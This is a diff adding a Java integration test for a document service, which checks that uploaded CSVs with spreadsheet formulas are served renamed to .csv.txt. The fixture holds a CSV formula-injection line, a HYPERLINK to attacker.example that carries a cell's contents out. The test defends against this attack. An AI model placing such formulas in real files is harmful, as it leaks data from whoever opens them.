@@ -153,6 +153,36 @@ class DocumentsIT {
         .firstValue("Content-Disposition")).hasValue("attachment; filename=\"review.hta.txt\"");
   }
 
+  /**
+   * A developer's CSV whose cells a spreadsheet would run as formulas is kept and served as
+   * {@code .csv.txt}: saved by a reviewer's browser as {@code .csv}, it opened in the reviewer's
+   * spreadsheet and ran them. Its bytes stay as sent (the SHA-256 is the developer's); a CSV of
+   * numbers keeps its name; a name stored before is served so.
+   */
+  @Test
+  void aCsvHoldingSpreadsheetFormulasIsServedAsText() {
+    String id = open("Sheets");
+    byte[] formulas = "model,score\r\nWile,\"=HYPERLINK(\"\"https://attacker.example/?\"\"&A1,\"\"details\"\")\"\r\n"
+        .getBytes(StandardCharsets.UTF_8);
+    JsonNode sheet = json(developerUpload(id, MultipartBody.upload("OTHER", "results.csv", formulas)));
+    assertThat(sheet.get("mediaType").asText()).isEqualTo("text/plain");
+    assertThat(sheet.get("filename").asText()).isEqualTo("results.csv.txt");
+    assertThat(sheet.get("sha256").asText()).isEqualTo(MultipartBody.sha256(formulas));
+    HttpResponse<byte[]> served = download(BASE + "/" + id + "/documents/" + sheet.get("id").asText() + "/content", "alice");
+    assertThat(served.headers().firstValue("Content-Disposition")).hasValue("attachment; filename=\"results.csv.txt\"");
+    assertThat(served.body()).isEqualTo(formulas);
+
+    byte[] numbers = "model,score,delta\nWile,-5,+3.5\n".getBytes(StandardCharsets.UTF_8);
+    JsonNode plain = json(developerUpload(id, MultipartBody.upload("OTHER", "scores.csv", numbers)));
+    assertThat(plain.get("filename").asText()).isEqualTo("scores.csv");
+    assertThat(download(BASE + "/" + id + "/documents/" + plain.get("id").asText() + "/content", "alice").headers()
+        .firstValue("Content-Disposition")).hasValue("attachment; filename=\"scores.csv\"");
+
+    jdbc.update("UPDATE fe_document SET filename = ? WHERE id = ?", "before.csv", sheet.get("id").asText());
+    assertThat(download(BASE + "/" + id + "/documents/" + sheet.get("id").asText() + "/content", "alice").headers()
+        .firstValue("Content-Disposition")).as("a name stored before").hasValue("attachment; filename=\"before.csv.txt\"");
+  }
+
   @Test
   void badUploadsGetAClear4xxAndChangeNothing() {
     String id = open("Refused");
